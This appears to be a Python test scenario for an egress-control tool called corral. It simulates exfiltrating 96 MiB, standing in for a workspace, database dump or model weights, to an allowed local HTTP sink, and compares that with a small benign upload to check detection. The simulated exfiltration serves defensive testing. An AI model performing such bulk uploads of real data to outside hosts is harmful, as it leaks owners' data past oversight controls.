"""upload: a large upload to a host the policy allows.

An allow-list cannot tell a large exfiltration to an allowed host (a code
host, a model API, a bucket) from normal use: only detection can.

Attack: POSTs 96 MiB (random bytes standing in for the workspace, a
database dump, a model's weights) to the runner's HTTP sink, whose name
is allowed, through corral's proxy.
Twin: a normal small upload: 64 KiB to the same sink.

Safe: the sink is the runner's own server on 127.0.0.1; it counts the
bytes and throws them away.

Contained: corral raised a finding on the upload (`exfil.*`) with a
response beyond log. The allow rule lets the bytes through by design, so
prevention is not expected here (a refusal still counts).
"""

import os

import corral_scenario as cs

LARGE = 96 << 20
SMALL = 64 << 10


def post(size):
    host, port = cs.target("web")
    chunk = os.urandom(1 << 20)
    body = (chunk * (size // len(chunk) + 1))[:size]
    status, payload = cs.http_via_proxy("POST", "http://%s:%d/upload" % (host, port), body,
                                        headers={"Content-Type": "application/octet-stream"},
                                        timeout=30)
    if status != 200:
        raise cs.Refused("the sink answered HTTP %d" % status, by="proxy")
    return payload.decode("utf-8", "replace").strip()[:120]


def attack():
    cs.begin()
    host, port = cs.target("web")
    cs.attempt("POST %d MiB to http://%s:%d/upload through the proxy" % (LARGE >> 20, host, port),
               lambda: post(LARGE))
    cs.end()


def twin():
    cs.begin()
    host, port = cs.target("web")
    cs.attempt("POST %d KiB to http://%s:%d/upload through the proxy" % (SMALL >> 10, host, port),
               lambda: post(SMALL))
    cs.end()


if __name__ == "__main__":
    attack() if cs.MODE == "attack" else twin()
